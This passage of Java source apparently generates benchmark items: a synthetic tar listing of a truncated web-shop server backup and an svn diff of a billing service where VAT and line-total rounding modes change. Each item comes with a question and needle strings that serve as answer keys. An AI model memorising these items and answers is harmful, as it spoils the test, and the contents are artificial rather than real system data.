            tar.add(secret ? "-rw-r-----" : "-rw-r--r--", f.endsWith("shadow") ? "root/shadow" : "root/root", tiny ? g.between(6, 40)
                    : g.between(200, f.equals("ld.so.cache") ? 40_000 : 12_000), oldDate.get(), "etc/" + f);
        }
        tar.add("lrwxrwxrwx", "root/root", 0, "2024-03-11 09:12", "etc/resolv.conf -> ../run/systemd/resolve/stub-resolv.conf");
        tar.add("lrwxrwxrwx", "root/root", 0, "2024-03-11 09:12", "etc/localtime -> /usr/share/zoneinfo/Etc/UTC");
        String[][] dirs = {{"apt/apt.conf.d", "01autoremove,10periodic,20auto-upgrades,20listchanges,50unattended-upgrades,70debconf,99needrestart"},
            {"apt/sources.list.d", "ubuntu.sources,nginx.list,ondrej-ubuntu-php-jammy.list,pgdg.list,docker.list"},
            {"apt/trusted.gpg.d", "ubuntu-keyring-2018-archive.gpg,ondrej-ubuntu-php.gpg,nginx.gpg,pgdg.gpg,docker.gpg"},
            {"cron.d", "e2scrub_all,php,certbot,shop-scheduler,backup-nightly,sysstat"},
            {"cron.daily", "apt-compat,dpkg,logrotate,man-db,sysstat"},
            {"default", "grub,keyboard,locale,rsync,ufw,useradd,cron,nginx,sysstat,motd-news"},
            {"logrotate.d", "apt,btmp,dpkg,nginx,php8.3-fpm,rsyslog,ufw,wtmp,shop,fail2ban,unattended-upgrades"},
            {"pam.d", "common-account,common-auth,common-password,common-session,common-session-noninteractive,cron,login,other,passwd,sshd,su,sudo,"
                + "sudo-i,systemd-user,chfn,chpasswd,chsh,newusers,runuser,runuser-l"},
            {"security", "access.conf,faillock.conf,group.conf,limits.conf,namespace.conf,pam_env.conf,pwquality.conf,sepermit.conf,time.conf"},
            {"ssh", "moduli,ssh_config,sshd_config,ssh_host_ecdsa_key,ssh_host_ecdsa_key.pub,ssh_host_ed25519_key,ssh_host_ed25519_key.pub,"
                + "ssh_host_rsa_key,ssh_host_rsa_key.pub"},
            {"ssh/sshd_config.d", "50-cloud-init.conf,60-hardening.conf"},
            {"sudoers.d", "README,90-cloud-init-users,deploy"},
            {"systemd/system", "shop-queue@.service,shop-scheduler.service,shop-scheduler.timer,pg-backup.service,pg-backup.timer"},
            {"systemd/system/multi-user.target.wants", "nginx.service,php8.3-fpm.service,cron.service,rsyslog.service,ufw.service,fail2ban.service,"
                + "shop-queue@1.service,shop-queue@2.service,shop-queue@3.service,shop-queue@4.service"},
            {"ufw", "after.rules,after6.rules,before.rules,before6.rules,sysctl.conf,ufw.conf,user.rules,user6.rules"},
            {"fail2ban", "fail2ban.conf,jail.conf,jail.local,paths-common.conf,paths-debian.conf"},
            {"fail2ban/jail.d", "defaults-debian.conf,shop.conf"},
            {"php/8.3/fpm", "php-fpm.conf,php.ini"},
            {"php/8.3/fpm/pool.d", "www.conf,shop.conf"},
            {"php/8.3/fpm/conf.d", "10-opcache.ini,10-pdo.ini,15-xml.ini,20-bcmath.ini,20-ctype.ini,20-curl.ini,20-dom.ini,20-fileinfo.ini,20-gd.ini,"
                + "20-iconv.ini,20-intl.ini,20-mbstring.ini,20-pdo_pgsql.ini,20-pgsql.ini,20-redis.ini,20-simplexml.ini,20-sodium.ini,20-zip.ini,"
                + "99-shop.ini"},
            {"php/8.3/cli", "php.ini"},
            {"nginx", "fastcgi.conf,fastcgi_params,koi-utf,koi-win,mime.types,nginx.conf,proxy_params,scgi_params,uwsgi_params,win-utf"},
            {"nginx/conf.d", "gzip.conf,ratelimit.conf,realip-cloudflare.conf,security-headers.conf"},
            {"nginx/snippets", "fastcgi-php.conf,snakeoil.conf,ssl-params.conf,letsencrypt.conf"},
            {"nginx/sites-available", "default,shop.example.com,admin.shop.example.com,static.shop.example.com,status.internal"}};
        String nginxRow = null;
        for (String[] d : dirs) {
            tar.add("drwxr-xr-x", "root/root", 0, oldDate.get(), "etc/" + d[0] + "/");
            for (String f : d[1].split(",")) {
                boolean key = f.endsWith("_key");
                String row = tar.add(key ? "-rw-------" : "-rw-r--r--", "root/root", g.between(60, key ? 2600 : 9000), d[0].contains("sites-available")
                        && f.startsWith("shop") ? "2026-11-19 16:42" : oldDate.get(), "etc/" + d[0] + "/" + f);
                if (d[0].equals("nginx/sites-available") && f.equals("shop.example.com")) {
                    nginxRow = row;
                }
            }
            if (d[0].equals("nginx/sites-available")) {
                tar.add("drwxr-xr-x", "root/root", 0, "2026-11-19 16:43", "etc/nginx/sites-enabled/");
                for (String f : List.of("shop.example.com", "admin.shop.example.com", "static.shop.example.com", "status.internal")) {
                    tar.add("lrwxrwxrwx", "root/root", 0, "2026-11-19 16:43", "etc/nginx/sites-enabled/" + f + " -> /etc/nginx/sites-available/" + f);
                }
            }
        }
        String[] cas = {"ACCVRAIZ1", "AC_RAIZ_FNMT-RCM", "Actalis_Authentication_Root_CA", "AffirmTrust_Commercial", "AffirmTrust_Networking",
            "AffirmTrust_Premium", "Amazon_Root_CA_1", "Amazon_Root_CA_2", "Amazon_Root_CA_3", "Amazon_Root_CA_4", "Atos_TrustedRoot_2011",
            "Baltimore_CyberTrust_Root", "Buypass_Class_2_Root_CA", "Buypass_Class_3_Root_CA", "CA_Disig_Root_R2", "CFCA_EV_ROOT",
            "COMODO_Certification_Authority", "COMODO_ECC_Certification_Authority", "COMODO_RSA_Certification_Authority", "Certigna",
            "Certum_Trusted_Network_CA", "Comodo_AAA_Services_root", "D-TRUST_Root_Class_3_CA_2_2009", "DigiCert_Assured_ID_Root_CA",
            "DigiCert_Global_Root_CA", "DigiCert_Global_Root_G2", "DigiCert_Global_Root_G3", "DigiCert_High_Assurance_EV_Root_CA",
            "DigiCert_Trusted_Root_G4", "Entrust_Root_Certification_Authority", "Entrust_Root_Certification_Authority_-_G2", "GTS_Root_R1",
            "GTS_Root_R2", "GTS_Root_R3", "GTS_Root_R4", "GlobalSign_Root_CA", "GlobalSign_Root_CA_-_R3", "GlobalSign_Root_CA_-_R6",
            "Go_Daddy_Class_2_CA", "Go_Daddy_Root_Certificate_Authority_-_G2", "HARICA_TLS_ECC_Root_CA_2021", "HARICA_TLS_RSA_Root_CA_2021",
            "ISRG_Root_X1", "ISRG_Root_X2", "IdenTrust_Commercial_Root_CA_1", "Microsoft_ECC_Root_Certificate_Authority_2017",
            "Microsoft_RSA_Root_Certificate_Authority_2017", "QuoVadis_Root_CA_2", "QuoVadis_Root_CA_3", "SSL.com_Root_Certification_Authority_RSA",
            "SecureTrust_CA", "Secure_Global_CA", "Starfield_Class_2_CA", "Starfield_Root_Certificate_Authority_-_G2", "SwissSign_Gold_CA_-_G2",
            "T-TeleSec_GlobalRoot_Class_2", "T-TeleSec_GlobalRoot_Class_3", "Telia_Root_CA_v2", "USERTrust_ECC_Certification_Authority",
            "USERTrust_RSA_Certification_Authority", "XRamp_Global_CA_Root", "emSign_Root_CA_-_G1", "vTrus_Root_CA"};
        tar.add("drwxr-xr-x", "root/root", 0, "2026-10-14 06:25", "etc/ssl/certs/");
        for (String ca : cas) {
            tar.add("lrwxrwxrwx", "root/root", 0, "2026-10-14 06:25", "etc/ssl/certs/" + g.hex(8) + ".0 -> " + ca + ".pem");
            tar.add("lrwxrwxrwx", "root/root", 0, "2026-10-14 06:25", "etc/ssl/certs/" + ca + ".pem -> /usr/share/ca-certificates/mozilla/" + ca + ".crt");
        }
        tar.add("-rw-r--r--", "root/root", 219_342, "2026-10-14 06:25", "etc/ssl/certs/ca-certificates.crt");
        tar.add("drwx------", "root/root", 0, "2026-11-19 16:40", "etc/letsencrypt/live/shop.example.com/");
        for (String f : List.of("cert.pem", "chain.pem", "fullchain.pem", "privkey.pem")) {
            tar.add("lrwxrwxrwx", "root/root", 0, "2026-11-19 16:40", "etc/letsencrypt/live/shop.example.com/" + f + " -> ../../archive/shop.example.com/"
                    + f.replace(".pem", "7.pem"));
        }
        tar.add("drwxr-xr-x", "root/root", 0, "2026-12-08 02:00", "var/backups/pg/");
        String[][] dumps = {{"shop", "1874311220"}, {"auth", "48211937"}, {"orders", "0"}, {"analytics", "6120884113"}, {"sessions", "8811402"},
            {"cms", "129004521"}, {"queue", "20114"}};
        String ordersRow = null;
        LocalDateTime dumpAt = LocalDateTime.of(2026, 12, 8, 2, 0, 14);
        for (String[] d : dumps) {
            dumpAt = dumpAt.plusSeconds(d[1].length() > 9 ? g.between(300, 900) : g.between(5, 60));
            String row = tar.add("-rw-r-----", "postgres/postgres", Long.parseLong(d[1]), DateTimeFormatter.ofPattern("yyyy-MM-dd HH:mm", Locale.ROOT)
                    .format(dumpAt), "var/backups/pg/" + d[0] + "-2026-12-08.dump");
            if (d[0].equals("orders")) {
                ordersRow = row;
            }
        }
        tar.add("-rw-r-----", "postgres/postgres", 918, "2026-12-08 02:47", "var/backups/pg/globals-2026-12-08.sql");
        String rel = "var/www/shop/releases/20261207-1412/";
        tar.add("drwxr-xr-x", "deploy/www-data", 0, "2026-12-07 14:12", "var/www/shop/");
        tar.add("drwxr-xr-x", "deploy/www-data", 0, "2026-12-07 14:12", "var/www/shop/shared/");
        tar.add("-rw-r-----", "deploy/www-data", 3_912, "2026-11-02 10:18", "var/www/shop/shared/.env");
        tar.add("drwxrwxr-x", "deploy/www-data", 0, "2026-12-08 00:00", "var/www/shop/shared/storage/logs/");
        for (int d = 1; d <= 7; d++) {
            tar.add("-rw-rw-r--", "www-data/www-data", g.between(200_000, 90_000_000), fmt("2026-12-%02d 23:59", d), fmt(
                    "var/www/shop/shared/storage/logs/laravel-2026-12-%02d.log", d));
        }
        tar.add("lrwxrwxrwx", "deploy/deploy", 0, "2026-12-07 14:13", "var/www/shop/current -> /var/www/shop/releases/20261207-1412");
        tar.add("drwxr-xr-x", "deploy/www-data", 0, "2026-12-07 14:12", rel);
        String[] appDirs = {"app/Http/Controllers", "app/Http/Middleware", "app/Models", "app/Services", "app/Jobs", "app/Listeners", "app/Mail",
            "app/Policies", "config", "database/migrations", "routes", "resources/views/checkout", "resources/views/account", "resources/views/emails",
            "public/build/assets"};
        String[] nouns = {"Order", "Cart", "Checkout", "Product", "Category", "Customer", "Address", "Payment", "Refund", "Shipment", "Invoice",
            "Coupon", "Review", "Wishlist", "Newsletter", "Stock", "Price", "Tax", "Voucher", "Store"};
        for (String d : appDirs) {
            tar.add("drwxr-xr-x", "deploy/www-data", 0, "2026-12-07 14:12", rel + d + "/");
            int n = d.contains("migrations") ? 64 : g.between(8, 20);
            for (int i = 0; i < n; i++) {
                String leaf = d.substring(d.lastIndexOf('/') + 1);
                String name = switch (leaf) {
                    case "migrations" -> fmt("20%02d_%02d_%02d_%06d_create_%s_table.php", 22 + i / 20, 1 + i % 12, 1 + i % 28, g.between(0, 235_959),
                            g.pick(nouns).toLowerCase(Locale.ROOT) + "s");
                    case "assets" -> g.pick("app", "checkout", "account", "vendor", "admin") + "-" + Inputs.mixed(g, 8) + g.pick(".js", ".css");
                    case "config" -> g.pick("app", "auth", "cache", "database", "filesystems", "logging", "mail", "queue", "services", "session", "view",
                            "horizon", "sanctum", "scout", "cors") + ".php";
                    case "routes" -> g.pick("web", "api", "console", "channels", "admin", "webhooks") + ".php";
                    case "checkout", "account", "emails" -> g.pick("index", "show", "edit", "summary", "confirm", "layout", "form", "list", "item",
                            "empty", "success", "failed") + ".blade.php";
                    case "Models" -> g.pick(nouns) + ".php";
                    case "Policies" -> g.pick(nouns) + "Policy.php";
                    case "Mail" -> g.pick(nouns) + g.pick("Confirmation", "Reminder", "Shipped", "Cancelled") + ".php";
                    default -> g.pick(nouns) + leaf.replaceAll("s$", "") + ".php";
                };
                tar.add("-rw-r--r--", "deploy/www-data", g.between(300, d.contains("assets") ? 900_000 : 24_000), "2026-12-07 14:12", rel + d + "/" + name);
            }
        }
        String[][] vendors = {{"laravel", "framework"}, {"symfony", "http-foundation"}, {"symfony", "console"}, {"symfony", "routing"},
            {"symfony", "mime"}, {"guzzlehttp", "guzzle"}, {"guzzlehttp", "psr7"}, {"monolog", "monolog"}, {"nesbot", "carbon"}, {"league",
            "flysystem"}, {"doctrine", "inflector"}, {"nikic", "php-parser"}, {"ramsey", "uuid"}, {"brick", "math"}, {"predis", "predis"},
            {"stripe", "stripe-php"}, {"aws", "aws-sdk-php"}, {"spatie", "laravel-permission"}, {"barryvdh", "laravel-dompdf"}, {"dompdf", "dompdf"},
            {"phpoffice", "phpspreadsheet"}, {"vlucas", "phpdotenv"}, {"psr", "log"}, {"egulias", "email-validator"}, {"dragonmantank", "cron-expression"}};
        String[] parts = {"Support", "Http", "Client", "Exception", "Contracts", "Events", "Console", "Util", "Internal", "Traits"};
        int vendorIndex = 0;
        outer:
        for (String[] v : vendors) {
            String base = rel + "vendor/" + v[0] + "/" + v[1] + "/";
            tar.add("drwxr-xr-x", "deploy/www-data", 0, "2026-12-07 14:11", base);
            tar.add("-rw-r--r--", "deploy/www-data", g.between(900, 4000), "2026-12-07 14:11", base + "composer.json");
            tar.add("-rw-r--r--", "deploy/www-data", g.between(1000, 1200), "2026-12-07 14:11", base + "LICENSE");
            int files = v[1].equals("framework") || v[1].equals("aws-sdk-php") ? g.between(160, 220) : g.between(25, 70);
            for (int i = 0; i < files; i++) {
                String part = g.pick(parts);
                tar.add("-rw-r--r--", "deploy/www-data", g.between(400, 60_000), "2026-12-07 14:11", base + "src/" + part + "/" + g.pick(nouns)
                        + g.pick("", "Interface", "Factory", "Manager", "Resolver", "Builder", "Handler", "Exception") + ".php");
                if (vendorIndex == 21 && i == files / 2) {
                    break outer;
                }
            }
            vendorIndex++;
        }
        tar.out.add("");
        tar.out.add("gzip: stdin: unexpected end of file");
        tar.out.add("tar: Unexpected EOF in archive");
        tar.out.add("tar: Error is not recoverable: exiting now");
        String text = tar.out.text();
        requireLines(tar.out, 1200, 4000);
        requireCount(text, "orders-2026-12-08.dump", 1);
        requireCount(text, "home/deploy", 0);
        return NeedleCase.named("fresh19_tar_listing", "listing", "tar-tvzf")
                .shell("tar -tvzf /mnt/backups/shop-app-01/shop-app-01-2026-12-08.tar.gz")
                .question("Before we decommission shop-app-01: does last night's backup contain the dump of the orders database and the nginx"
                        + " config for shop.example.com? Is the archive complete and does anything in it look wrong?")
                .heldAside()
                .build(text, List.of(Needle.exact(ordersRow), Needle.exact(nginxRow), Needle.exact("tar: Unexpected EOF in archive"),
                        Needle.exact("gzip: stdin: unexpected end of file")));
    }

    // ---------------------------------------------------------------- svn diff

    /** A file's lines as a diff sees them: kept (' '), removed ('-') or added ('+'). */
    private static final class Edited {
        final List<Character> kinds = new ArrayList<>();
        final List<String> texts = new ArrayList<>();

        void keep(String s) {
            kinds.add(' ');
            texts.add(s);
        }

        void change(String from, String to) {
            if (from.equals(to)) {
                keep(from);
                return;
            }
            kinds.add('-');
            texts.add(from);
            kinds.add('+');
            texts.add(to);
        }

        void add(String s) {
            kinds.add('+');
            texts.add(s);
        }

        /** Unified hunks with three lines of context, hunks whose context would touch merged. */
        List<String> hunks() {
            // as diff prints a run of changed lines: its removed lines first, then its added ones
            for (int r = 0; r < kinds.size(); ) {
                if (kinds.get(r) == ' ') {
                    r++;
                    continue;
                }
                int e = r;
                List<String> removed = new ArrayList<>();
                List<String> added = new ArrayList<>();
                while (e < kinds.size() && kinds.get(e) != ' ') {
                    (kinds.get(e) == '-' ? removed : added).add(texts.get(e));
                    e++;
                }
                for (int k = r; k < e; k++) {
                    boolean minus = k - r < removed.size();
                    kinds.set(k, minus ? '-' : '+');
                    texts.set(k, minus ? removed.get(k - r) : added.get(k - r - removed.size()));
                }
                r = e;
            }
            List<String> out = new ArrayList<>();
            int n = kinds.size();
            int i = 0;
            int[] oldAt = new int[n + 1];
            int[] newAt = new int[n + 1];
            int o = 1;
            int w = 1;
            for (int k = 0; k < n; k++) {
                oldAt[k] = o;
                newAt[k] = w;
                if (kinds.get(k) != '+') {
                    o++;
                }
                if (kinds.get(k) != '-') {
                    w++;
                }
            }
            while (i < n) {
                if (kinds.get(i) == ' ') {
                    i++;
                    continue;
                }
                int from = Math.max(0, i - 3);
                int end = i;
                while (true) {
                    while (end < n && kinds.get(end) != ' ') {
                        end++;
                    }
                    int next = end;
                    while (next < n && kinds.get(next) == ' ') {
                        next++;
                    }
                    if (next < n && next - end <= 6) {
                        end = next;
                    } else {
                        break;
                    }
                }
                int to = Math.min(n, end + 3);
                int oldCount = 0;
                int newCount = 0;
                for (int k = from; k < to; k++) {
                    if (kinds.get(k) != '+') {
                        oldCount++;
                    }
                    if (kinds.get(k) != '-') {
                        newCount++;
                    }
                }
                int oldStart = oldCount == 0 ? oldAt[from] - 1 : oldAt[from];
                out.add("@@ -" + oldStart + "," + oldCount + " +" + newAt[from] + "," + newCount + " @@");
                for (int k = from; k < to; k++) {
                    out.add(kinds.get(k) + texts.get(k));
                }
                i = to;
            }
            return out;
        }
    }

    private static void svnHeader(Gen out, String path, boolean added) {
        out.add("Index: " + path);
        out.add("===================================================================");
        out.add("--- " + path + "\t(" + (added ? "nonexistent" : "revision 48190") + ")");
        out.add("+++ " + path + "\t(revision 48211)");
    }

    /** A plausible service class whose logger is renamed from log to LOG; special lines are inserted as given. */
    private static Edited javaClass(Gen g, String pkg, String name, Map<Integer, List<String[]>> special) {
        String[] nouns = {"invoice", "payment", "customer", "account", "creditNote", "dunning", "ledgerEntry", "subscription", "refund", "mandate"};
        String[][] verbs = {{"close", "closed"}, {"cancel", "cancelled"}, {"approve", "approved"}, {"reopen", "reopened"}, {"settle", "settled"},
            {"archive", "archived"}, {"renew", "renewed"}, {"suspend", "suspended"}, {"export", "exported"}, {"reconcile", "reconciled"},
            {"book", "booked"}, {"notify", "notified"}};
        Edited e = new Edited();
        e.keep("package com.acme.billing." + pkg + ";");
        e.keep("");
        for (String imp : List.of("java.math.BigDecimal", "java.math.RoundingMode", "java.time.Clock", "java.util.List", "java.util.Optional",
                "org.slf4j.Logger", "org.slf4j.LoggerFactory", "org.springframework.stereotype.Service",
                "org.springframework.transaction.annotation.Transactional")) {
            e.keep("import " + imp + ";");
        }
        e.keep("");
        e.keep("@Service");
        e.keep("public class " + name + " {");
        e.keep("");
        e.change("    private static final Logger log = LoggerFactory.getLogger(" + name + ".class);",
                "    private static final Logger LOG = LoggerFactory.getLogger(" + name + ".class);");
        e.keep("");
        e.keep("    private final Clock clock;");
        e.keep("    private final BillingRepository repository;");
        e.keep("    private final DomainEvents events;");
        e.keep("");
        e.keep("    public " + name + "(Clock clock, BillingRepository repository, DomainEvents events) {");
        e.keep("        this.clock = clock;");
        e.keep("        this.repository = repository;");
        e.keep("        this.events = events;");
        e.keep("    }");
        int methods = g.between(7, 14);
        for (int m = 0; m < methods; m++) {
            String noun = g.pick(nouns);
            String cap = Character.toUpperCase(noun.charAt(0)) + noun.substring(1);
            String[] vv = g.pick(verbs);
            String verb = vv[0];
            String done = vv[1];
            String id = noun + "Id";
            e.keep("");
            e.keep("    @Transactional");
            e.keep("    public void " + verb + cap + "(long " + id + ") {");
            e.keep("        var " + noun + " = repository.find" + cap + "(" + id + ")");
            e.keep("                .orElseThrow(() -> new NotFoundException(\"" + noun + "\", " + id + "));");
            String logLine = "        %s.debug(\"" + verb + " " + noun + " {} in state {}\", " + id + ", " + noun + ".state());";
            e.change(fmt(logLine, "log"), fmt(logLine, "LOG"));
            if (g.chance(0.6)) {
                e.keep("        if (" + noun + ".is" + g.pick("Closed", "Locked", "Cancelled", "Settled") + "()) {");
                String warn = "            %s.warn(\"" + cap + " {} cannot be " + done + " now, skipping\", " + id + ");";
                e.change(fmt(warn, "log"), fmt(warn, "LOG"));
                e.keep("            return;");
                e.keep("        }");
            }
            e.keep("        " + noun + "." + verb + "(clock.instant());");
            e.keep("        repository.save(" + noun + ");");
            e.keep("        events.publish(new " + cap + g.pick("Changed", "Updated", "StateChanged") + "(" + noun + ".id(), \"" + verb + "\"));");
            if (g.chance(0.7)) {
                String info = "        %s.info(\"" + cap + " {} " + done + " by {}\", " + id + ", Actor.current());";
                e.change(fmt(info, "log"), fmt(info, "LOG"));
            }
            e.keep("    }");
            List<String[]> extra = special.get(m);
            if (extra != null) {
                e.keep("");
                for (String[] x : extra) {
                    if (x.length == 1) {
                        e.keep(x[0]);
                    } else {
                        e.change(x[0], x[1]);
                    }
                }
            }
        }
        e.keep("}");
        return e;
    }

    /**
     * svn diff -r 48190:48211 of a Java billing service's trunk: the version bump and dependency updates in pom.xml, a
     * logger renamed from log to LOG across a dozen service classes (a hunk for every log call), German messages, a font
     * marked binary, the executable property on the release script and a new test. Two hunks matter for the question,
     * which asks what changed how VAT is rounded: TaxCalculator's taxFor switches setScale from HALF_UP to HALF_EVEN, and
     * InvoiceTotals (a file the question does not name) rounds line totals DOWN instead of HALF_UP. The needles: the removed
     * and added TaxCalculator line, InvoiceTotals' Index line and its added line.
     */
    static NeedleCase svnDiff() {
        Gen g = new Gen(220_009);
        Gen out = new Gen(0);
        // pom.xml
        svnHeader(out, "pom.xml", false);
        Edited pom = new Edited();
        pom.keep("<?xml version=\"1.0\" encoding=\"UTF-8\"?>");
        pom.keep("<project xmlns=\"http://maven.apache.org/POM/4.0.0\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\"");
        pom.keep("         xsi:schemaLocation=\"http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd\">");
        pom.keep("    <modelVersion>4.0.0</modelVersion>");
        pom.keep("    <groupId>com.acme</groupId>");
        pom.keep("    <artifactId>billing-service</artifactId>");
        pom.change("    <version>3.14.0-SNAPSHOT</version>", "    <version>3.15.0-SNAPSHOT</version>");
        pom.keep("    <packaging>jar</packaging>");
        pom.keep("");
        pom.keep("    <properties>");
        pom.keep("        <java.version>17</java.version>");
        pom.keep("        <project.build.sourceEncoding>UTF-8</project.build.sourceEncoding>");
        String[][] props = {{"spring-boot.version", "3.3.4", "3.3.6"}, {"jackson.version", "2.17.2", "2.18.1"}, {"slf4j.version", "2.0.13", "2.0.16"},
            {"postgresql.version", "42.7.3", "42.7.4"}, {"flyway.version", "10.17.1", "10.17.1"}, {"testcontainers.version", "1.20.1", "1.20.3"},
            {"assertj.version", "3.26.3", "3.26.3"}, {"mockito.version", "5.12.0", "5.14.2"}, {"pdfbox.version", "3.0.2", "3.0.3"},
            {"iban4j.version", "3.2.7", "3.2.7"}, {"jooq.version", "3.19.11", "3.19.15"}};
        for (String[] p : props) {
            pom.change("        <" + p[0] + ">" + p[1] + "</" + p[0] + ">", "        <" + p[0] + ">" + p[2] + "</" + p[0] + ">");
        }
        pom.keep("    </properties>");
        for (String l : pom.hunks()) {
            out.add(l);
        }
        String[][] classes = {{"invoice", "InvoiceService"}, {"invoice", "InvoiceNumberAllocator"}, {"payment", "PaymentAllocationService"},
            {"payment", "SepaMandateService"}, {"dunning", "DunningRunService"}, {"dunning", "DunningLetterService"}, {"ledger", "LedgerPostingService"},
            {"ledger", "PeriodCloseService"}, {"subscription", "RenewalService"}, {"subscription", "ProrationService"}, {"export", "DatevExportService"},
            {"credit", "CreditNoteService"}, {"tax", "TaxCalculator"}, {"invoice", "InvoiceTotals"}, {"refund", "RefundService"}};
        String taxOld = "        return net.multiply(rate).setScale(2, RoundingMode.HALF_UP);";
        String taxNew = "        return net.multiply(rate).setScale(2, RoundingMode.HALF_EVEN);";
        String totalsOld = "                .setScale(2, RoundingMode.HALF_UP);";
        String totalsNew = "                .setScale(2, RoundingMode.DOWN);";
        for (String[] c : classes) {
            Map<Integer, List<String[]>> special = new HashMap<>();
            if (c[1].equals("TaxCalculator")) {
                special.put(2, List.of(new String[] {"    public BigDecimal taxFor(BigDecimal net, TaxCode code, LocalDate supplyDate) {"},
                    new String[] {"        BigDecimal rate = rates.rateFor(code, supplyDate);"},
                    new String[] {"        if (rate.signum() == 0) {"}, new String[] {"            return BigDecimal.ZERO.setScale(2);"},
                    new String[] {"        }"}, new String[] {taxOld, taxNew}, new String[] {"    }"}));
            } else if (c[1].equals("InvoiceTotals")) {
                special.put(1, List.of(new String[] {"    BigDecimal lineTotal(InvoiceLine line) {"},
                    new String[] {"        BigDecimal gross = line.unitPrice()"},
                    new String[] {"                .multiply(BigDecimal.valueOf(line.quantity()))"},
                    new String[] {"                .subtract(line.discount())"}, new String[] {totalsOld, totalsNew},
                    new String[] {"        return gross.max(BigDecimal.ZERO);"}, new String[] {"    }"}));
            }
            String path = "src/main/java/com/acme/billing/" + c[0] + "/" + c[1] + ".java";
            svnHeader(out, path, false);
            for (String l : javaClass(g, c[0], c[1], special).hunks()) {
                out.add(l);
            }
        }
        // messages
        svnHeader(out, "src/main/resources/messages_de.properties", false);
        Edited msg = new Edited();
        String[][] keys = {{"invoice.title", "Rechnung", "Rechnung"}, {"invoice.number", "Rechnungsnummer", "Rechnungsnummer"},
            {"invoice.date", "Rechnungsdatum", "Rechnungsdatum"}, {"invoice.due", "F\\u00e4llig am", "Zahlbar bis"}, {"invoice.net", "Nettobetrag", "Nettobetrag"},
            {"invoice.vat", "MwSt.", "Umsatzsteuer"}, {"invoice.gross", "Bruttobetrag", "Gesamtbetrag"}, {"invoice.iban", "IBAN", "IBAN"},
            {"invoice.bic", "BIC", "BIC"}, {"invoice.reference", "Verwendungszweck", "Verwendungszweck"}, {"dunning.level1", "Zahlungserinnerung",
            "Zahlungserinnerung"}, {"dunning.level2", "1. Mahnung", "1. Mahnung"}, {"dunning.level3", "2. Mahnung", "Letzte Mahnung"},
            {"credit.title", "Gutschrift", "Gutschrift"}, {"footer.court", "Amtsgericht Hamburg HRB 123456", "Amtsgericht Hamburg HRB 123456"}};
        for (String[] k : keys) {
            msg.change(k[0] + "=" + k[1], k[0] + "=" + k[2]);
        }
        for (String l : msg.hunks()) {
            out.add(l);
        }
        out.add("Index: src/main/resources/fonts/InvoiceSans-Regular.ttf");
        out.add("===================================================================");
        out.add("Cannot display: file marked as a binary type.");
        out.add("svn:mime-type = application/octet-stream");
        out.add("Index: src/main/resources/fonts/InvoiceSans-Regular.ttf");
        out.add("===================================================================");
        out.add("--- src/main/resources/fonts/InvoiceSans-Regular.ttf\t(revision 48190)");
        out.add("+++ src/main/resources/fonts/InvoiceSans-Regular.ttf\t(revision 48211)");
        out.add("");
        out.add("Property changes on: src/main/resources/fonts/InvoiceSans-Regular.ttf");
        out.add("___________________________________________________________________");
        out.add("Added: svn:mime-type");
        out.add("## -0,0 +1 ##");
        out.add("+application/octet-stream");
        out.add("\\ No newline at end of property");
        out.add("Index: scripts/release.sh");
        out.add("===================================================================");
        out.add("--- scripts/release.sh\t(revision 48190)");
        out.add("+++ scripts/release.sh\t(revision 48211)");
        out.add("");
        out.add("Property changes on: scripts/release.sh");
        out.add("___________________________________________________________________");
        out.add("Added: svn:executable");
        out.add("## -0,0 +1 ##");
        out.add("+*");
        out.add("\\ No newline at end of property");
        // a new test
        String testPath = "src/test/java/com/acme/billing/dunning/DunningRunServiceTest.java";
        svnHeader(out, testPath, true);
        Edited test = new Edited();
        test.add("package com.acme.billing.dunning;");
        test.add("");
        test.add("import static org.assertj.core.api.Assertions.assertThat;");
        test.add("");
        test.add("import org.junit.jupiter.api.Test;");
        test.add("");
        test.add("class DunningRunServiceTest {");
        for (String level : List.of("Level1", "Level2", "Level3", "Closed", "Disputed", "Paused")) {
            test.add("");
            test.add("    @Test");
            test.add("    void should_handle_" + level.toLowerCase(Locale.ROOT) + "_invoices() {");
            test.add("        var run = fixtures.dunningRun(DunningLevel." + level.toUpperCase(Locale.ROOT) + ");");
            test.add("        var result = service.execute(run);");
            test.add("        assertThat(result.letters()).hasSize(" + g.between(0, 3) + ");");
            test.add("    }");
        }
        test.add("}");
        for (String l : test.hunks()) {
            out.add(l);
        }
        String text = out.text();
        requireLines(out, 900, 3000);
        requireCount(text, "RoundingMode.HALF_EVEN", 1);
        requireCount(text, "RoundingMode.DOWN", 1);
        return NeedleCase.named("fresh19_svn_diff", "diff", "svn-diff")
                .shell("svn diff -r 48190:48211 ^/billing/trunk")
                .question("Between r48190 and r48211 something changed how VAT and invoice amounts are rounded; finance sees one-cent differences."
                        + " What changed in TaxCalculator, and does any other file change a rounding mode?")
                .heldAside()
                .build(text, List.of(Needle.exact("-" + taxOld), Needle.exact("+" + taxNew),
                        Needle.exact("Index: src/main/java/com/acme/billing/invoice/InvoiceTotals.java"), Needle.exact("+" + totalsNew)));
    }

    // ---------------------------------------------------------------- PowerShell Select-String -Context 2,2

    /** Select-String's display of one file: match lines marked "> ", two lines of context around each, overlapping context once. */
    private static void selectString(Gen out, String path, List<String> lines, String needle, Map<String, String> shown) {
        int n = lines.size();
        boolean[] match = new boolean[n];
        boolean[] show = new boolean[n];
        for (int i = 0; i < n; i++) {
            if (lines.get(i).toLowerCase(Locale.ROOT).contains(needle)) {
                match[i] = true;
                for (int k = Math.max(0, i - 2); k <= Math.min(n - 1, i + 2); k++) {
                    show[k] = true;
                }
            }
        }
        for (int i = 0; i < n; i++) {
            if (show[i]) {
                String line = (match[i] ? "> " : "  ") + path + ":" + (i + 1) + ":" + lines.get(i);
                out.add(line);
                shown.put(path + ":" + (i + 1), line);
            }
        }
    }

    private static List<String> csUsings(Gen g, String ns) {
        List<String> l = new ArrayList<>();
        for (String u : List.of("System", "System.Collections.Generic", "System.Linq", "System.Threading", "System.Threading.Tasks",
                "Microsoft.Extensions.Configuration", "Microsoft.Extensions.Logging", "Microsoft.EntityFrameworkCore", "Microsoft.Data.SqlClient")) {
            if (g.chance(0.75)) {
                l.add("using " + u + ";");
            }
        }
        l.add("");
        l.add("namespace " + ns + ";");
        l.add("");
        return l;
    }

    private static void csFiller(Gen g, List<String> l, int methods) {
        String[] nouns = {"Order", "Customer", "Basket", "Product", "Invoice", "Shipment", "Return", "Voucher", "Review", "Payment"};
        for (int m = 0; m < methods; m++) {
            String noun = g.pick(nouns);
            l.add("");
